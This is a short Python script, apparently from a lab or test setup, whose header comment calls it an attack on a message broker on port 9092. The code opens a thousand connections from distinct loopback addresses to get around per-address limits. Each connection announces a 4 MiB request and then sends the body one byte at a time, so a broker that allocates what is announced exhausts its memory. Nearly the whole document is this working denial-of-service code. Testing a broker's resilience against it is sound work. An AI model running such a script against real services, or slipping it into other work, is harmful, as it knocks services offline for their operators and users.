# An attack: a thousand connections to the broker, each from an address of its own (any of
# 127.0.0.0/8 is this machine's, so a cap per address does not hold them), each announcing a
# request of 4 MiB and sending its body a byte at a time: 4 GB of buffers for a broker that
# allocates what every connection announces. It does none of the lab's work.
import socket
import struct
import time

ANNOUNCED = 4 << 20
conns = {}
while True:
    for i in range(1000):
        if i in conns:
            continue
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(0.5)
            s.bind(('127.0.%d.%d' % (1 + i // 250, 1 + i % 250), 0))
            s.connect(('127.0.0.1', 9092))
            s.sendall(struct.pack('>i', ANNOUNCED))
            conns[i] = s
        except OSError:
            s.close()
    for i, s in list(conns.items()):
        try:
            s.send(b'\0')
        except socket.timeout:
            pass
        except OSError:
            s.close()
            del conns[i]
    time.sleep(0.5)
